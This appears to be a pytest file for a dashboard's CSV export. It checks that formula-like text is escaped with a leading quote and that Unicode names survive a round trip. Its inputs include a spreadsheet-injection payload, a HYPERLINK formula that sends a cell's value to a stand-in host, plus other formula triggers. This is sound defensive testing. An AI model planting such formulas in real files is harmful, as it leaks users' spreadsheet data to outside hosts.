"""CSV downloads are inert and readable in a spreadsheet: formula-like text is quoted,
numbers stay numbers, and the file starts with the UTF-8 byte-order mark."""

from __future__ import annotations

import csv
import io

import pandas as pd

from dashboard.exports.spreadsheet import csv_bytes


def test_formula_like_text_gets_a_leading_quote_and_numbers_stay_numbers():
    frame = pd.DataFrame(
        {
            "title": [
                '=HYPERLINK("http://x.example/?"&A1,"click")',
                "+1",
                "-cmd",
                "@SUM(A1)",
                "\tx",
                "\rx",
                "Cəbrayıl",
            ],
            "value": [-5.5, 1, 2, 3, 4, 5, 6],
        }
    )
    data = csv_bytes(frame)
    assert data[:3] == b"\xef\xbb\xbf"
    rows = list(csv.DictReader(io.StringIO(data[3:].decode("utf-8"), newline="")))
    assert [r["title"] for r in rows] == [
        '\'=HYPERLINK("http://x.example/?"&A1,"click")',
        "'+1",
        "'-cmd",
        "'@SUM(A1)",
        "'\tx",
        "'\rx",
        "Cəbrayıl",
    ]
    assert rows[0]["value"] == "-5.5"


def test_pandas_reads_the_download_back_with_its_letters():
    frame = pd.DataFrame({"name": ["Cəbrayıl", "Füzuli"], "value": [1.5, None]})
    back = pd.read_csv(io.BytesIO(csv_bytes(frame)), encoding="utf-8-sig")
    assert list(back.columns) == ["name", "value"]
    assert back["name"].tolist() == ["Cəbrayıl", "Füzuli"]
    assert back["value"].iloc[0] == 1.5
    assert pd.isna(back["value"].iloc[1])
